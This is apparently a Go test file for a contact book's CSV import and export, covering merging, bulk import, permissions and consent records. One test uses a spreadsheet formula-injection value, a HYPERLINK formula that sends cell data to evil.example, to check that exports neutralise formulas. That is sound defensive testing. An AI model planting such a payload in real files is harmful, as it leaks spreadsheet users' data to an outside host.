package contact_test

import (
	"encoding/csv"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"switchboard/internal/contact"
	"switchboard/internal/fault"
	"switchboard/internal/journal"
	"switchboard/internal/staff"
	"switchboard/internal/store"
	"switchboard/internal/store/storetest"
)

// book runs f with an empty book of contacts on both databases, on a clock that stands still.
func book(t *testing.T, f func(t *testing.T, b *contact.Book, boss staff.Actor)) {
	now := time.Date(2026, 11, 23, 9, 0, 0, 0, time.UTC)
	storetest.Each(t, func(t *testing.T, s *store.Store) {
		f(t, &contact.Book{Store: s, Now: func() time.Time { return now }}, staff.Actor{Person: 7, Name: "Ada", Role: staff.Administrator})
	})
}

// take imports a file by its headings and counts what became of its lines.
func take(t *testing.T, b *contact.Book, who staff.Actor, file string, keep bool) (map[string]int, []contact.Outcome) {
	t.Helper()
	s, err := contact.ReadSheet([]byte(file))
	if err != nil {
		t.Fatal(err)
	}
	list, err := b.Import(t.Context(), who, s, contact.Guess(s.Header), keep)
	if err != nil {
		t.Fatal(err)
	}
	done := map[string]int{}
	for _, o := range list {
		done[o.Deed]++
	}
	return done, list
}

// exported is the list of contacts as its lines.
func exported(t *testing.T, b *contact.Book, who staff.Actor) [][]string {
	t.Helper()
	write, err := b.Export(t.Context(), who)
	if err != nil {
		t.Fatal(err)
	}
	var out strings.Builder
	if err := write(t.Context(), &out); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out.String(), "\xEF\xBB\xBF"))).ReadAll()
	if err != nil || len(rows) == 0 {
		t.Fatalf("the export is no CSV: %v", err)
	}
	return rows
}

func same(t *testing.T, what string, got, want map[string]int) {
	t.Helper()
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("%s: %v; want %v", what, got, want)
	}
}

// What is exported is taken in by another house as it was, and by the same one changes nothing.
func TestAnExportCanBeTakenInAgain(t *testing.T) {
	evil := `=HYPERLINK("http://evil.example?x="&A1,"click")`
	file := "Name,Email,Number,Standings,Language,Note\n" + `"Miller, Kim",kim@x.example,1,customer,en,"said ""hello""` + "\nand went\"\n" + `"` + strings.ReplaceAll(evil, `"`, `""`) + `",tom@x.example,+49 30 1,,de,@SUM(A1)` + "\n"
	var kept [][]string
	book(t, func(t *testing.T, b *contact.Book, boss staff.Actor) {
		done, _ := take(t, b, boss, file, true)
		same(t, "the first time", done, map[string]int{"new": 2})
		kept = exported(t, b, boss)
		for _, row := range kept[1:] {
			for _, cell := range row {
				if strings.ContainsAny(cell[:min(1, len(cell))], "=+-@\t\r") {
					t.Errorf("a cell begins a formula: %q", cell)
				}
			}
		}
		var out strings.Builder
		if err := csv.NewWriter(&out).WriteAll(kept); err != nil {
			t.Fatal(err)
		}
		done, _ = take(t, b, boss, out.String(), true)
		same(t, "its own export", done, map[string]int{"same": 2})
		again := exported(t, b, boss)
		if !slices.EqualFunc(kept, again, slices.Equal) {
			t.Errorf("it was %q and is %q", kept, again)
		}
		at := slices.IndexFunc(kept, func(row []string) bool { return row[2] == "tom@x.example" })
		if at < 0 || kept[at][1] != "'"+evil || kept[at][3] != "'+49 30 1" || kept[at][6] != "'@SUM(A1)" {
			t.Errorf("the list is %q", kept)
		}
	})
}

// Who is known gets what is new about them; nothing they have is taken away, and what would happen is told before.
func TestAnImportAddsAndTakesNothingAway(t *testing.T) {
	book(t, func(t *testing.T, b *contact.Book, boss staff.Actor) {
		take(t, b, boss, "Name,Email,Note,Standings,Size\nKim,kim@x.example,Likes tea,customer,L\nTom,tom@x.example,,,\n", true)
		more := "Name,Email,Number,Note,Standings,Size,Club\nOther name,KIM@x.example,12,Likes coffee,journalist,M,Chess\nTom,tom@x.example,,,,,\nUte,ute@x.example,13,,,,\nBoth,tom@x.example2,12,,,,\n"
		before := exported(t, b, boss)
		told, _ := take(t, b, boss, more, false)
		if now := exported(t, b, boss); !slices.EqualFunc(before, now, slices.Equal) {
			t.Error("telling what would happen changed something")
		}
		more = strings.Replace(more, "tom@x.example2", "new@x.example", 1)
		done, _ := take(t, b, boss, more, true)
		same(t, "told", told, map[string]int{"changed": 1, "same": 1, "new": 1, "wrong": 1})
		same(t, "done", done, told)
		for _, row := range exported(t, b, boss) {
			if row[2] == "kim@x.example" && (row[1] != "Kim" || row[3] != "12" || row[4] != "customer, journalist" || row[6] != "Likes tea" || row[8] != "Club: Chess\nSize: L") {
				t.Errorf("Kim became %q", row)
			}
		}
		take(t, b, boss, "Email\nann@x.example\n", true)
		take(t, b, boss, "First name,Last name,Email\nAnn,Lee,ann@x.example\n", true)
		take(t, b, boss, "First name,Last name,Email\nAnna,Leigh,ann@x.example\n", true)
		if all := exported(t, b, boss); !slices.ContainsFunc(all, func(row []string) bool { return row[1] == "Ann Lee" && row[2] == "ann@x.example" }) {
			t.Errorf("who was known by an address alone has not the name it came with first: %q", all)
		}
		done, list := take(t, b, boss, "Email,Number\ntom@x.example,12\n", true)
		if done["wrong"] != 1 || !strings.Contains(list[0].Why, "two contacts") {
			t.Errorf("an address of one and a number of another: %+v", list)
		}
	})
}

// Ten thousand lines, of which every tenth is wrong: each is accounted for, those that are good are there once, and a repeat adds none.
func TestTenThousandLines(t *testing.T) {
	var file strings.Builder
	file.WriteString("Name;E-Mail;Kundennummer\n")
	for n := range 10_000 {
		mail := fmt.Sprintf("c%d@x.example", n)
		if n%10 == 3 {
			mail = "no address"
		}
		fmt.Fprintf(&file, "\"Contact; %d\";%s;%d\n", n, mail, n)
	}
	book(t, func(t *testing.T, b *contact.Book, boss staff.Actor) {
		done, list := take(t, b, boss, file.String(), true)
		same(t, "done", done, map[string]int{"new": 9000, "wrong": 1000})
		for k, o := range list {
			if o.Line != k+2 || (o.Deed == "wrong") != (k%10 == 3) {
				t.Fatalf("line %d is %+v", k+2, o)
			}
		}
		if rows := exported(t, b, boss); len(rows) != 9001 {
			t.Errorf("%d lines are exported", len(rows))
		}
		var told int
		if err := b.Store.Read().QueryRowContext(t.Context(), `SELECT count(*) FROM journal WHERE what = $1`, string(journal.ContactsImported)).Scan(&told); err != nil || told != 45 {
			t.Errorf("it is told %d times, %v", told, err)
		}
		done, _ = take(t, b, boss, file.String(), true)
		same(t, "a repeat", done, map[string]int{"same": 9000, "wrong": 1000})
	})
}

func TestWhoMayNotKeepContactsImportsAndExportsNone(t *testing.T) {
	book(t, func(t *testing.T, b *contact.Book, _ staff.Actor) {
		for _, role := range []staff.Role{staff.Member, staff.Contributor, staff.Viewer, staff.Agency} {
			who := staff.Actor{Person: 8, Role: role}
			if _, err := b.Import(t.Context(), who, contact.Sheet{}, nil, true); !fault.Is(err, fault.Forbidden) {
				t.Errorf("%s imports: %v", role, err)
			}
			if _, err := b.Export(t.Context(), who); !fault.Is(err, fault.Forbidden) {
				t.Errorf("%s exports: %v", role, err)
			}
		}
	})
}

// What holds for a purpose is the newest; nothing that was noted is ever changed.
func TestConsents(t *testing.T) {
	book(t, func(t *testing.T, b *contact.Book, boss staff.Actor) {
		ctx := t.Context()
		take(t, b, boss, "Name,Email\nKim,kim@x.example\n", true)
		known, err := contact.Known(ctx, b.Store.Read(), "email", []string{"kim@x.example"})
		if err != nil || len(known) != 1 {
			t.Fatal(known, err)
		}
		kim := known[0].Contact
		for name, tt := range map[string]struct {
			c    contact.Consent
			word string
		}{
			"for nothing":             {contact.Consent{Given: true, Proof: "form"}, "what for"},
			"for a very long purpose": {contact.Consent{Purpose: strings.Repeat("x", 101), Proof: "form"}, "100 characters"},
			"without a proof":         {contact.Consent{Purpose: "newsletter", Given: true, Proof: " "}, "how it can be shown"},
			"with bytes of zero":      {contact.Consent{Purpose: "news", Given: true, Proof: "a\x00b"}, "not text"},
			"that is yet to come":     {contact.Consent{Purpose: "news", Given: true, Proof: "form", At: b.Now().Add(time.Hour)}, "not come yet"},
		} {
			tt.c.Contact = kim
			if _, err := b.NoteConsent(ctx, boss, tt.c); !fault.Is(err, fault.Invalid) || !strings.Contains(err.Error(), tt.word) {
				t.Errorf("consent %s: %v", name, err)
			}
		}
		if _, err := b.NoteConsent(ctx, boss, contact.Consent{Contact: 99, Purpose: "news", Given: true, Proof: "form"}); !fault.Is(err, fault.NotFound) {
			t.Errorf("consent of nobody: %v", err)
		}
		first, err := b.NoteConsent(ctx, boss, contact.Consent{Contact: kim, Purpose: " newsletter ", Given: true, Proof: "form of 3 May", At: b.Now().Add(-time.Hour)})
		if err != nil || first.Purpose != "newsletter" || first.By != boss.Person || !first.NotedAt.Equal(b.Now()) {
			t.Fatalf("noted as %+v, %v", first, err)
		}
		last, err := b.NoteConsent(ctx, boss, contact.Consent{Contact: kim, Purpose: "newsletter"}) // taking back needs no proof
		if err != nil {
			t.Fatal(err)
		}
		list, err := contact.Consents(ctx, b.Store.Read(), kim)
		if err != nil || len(list) != 2 || !slices.Contains(list, first) || !slices.Contains(list, last) {
			t.Errorf("kept are %+v, %v", list, err)
		}
		entries, err := journal.Read(ctx, b.Store, journal.Cursor{}, 100)
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range entries {
			if strings.Contains(string(e.Data), "newsletter") || strings.Contains(string(e.Data), "form") {
				t.Errorf("the journal holds words: %s", e.Data)
			}
		}
	})
}
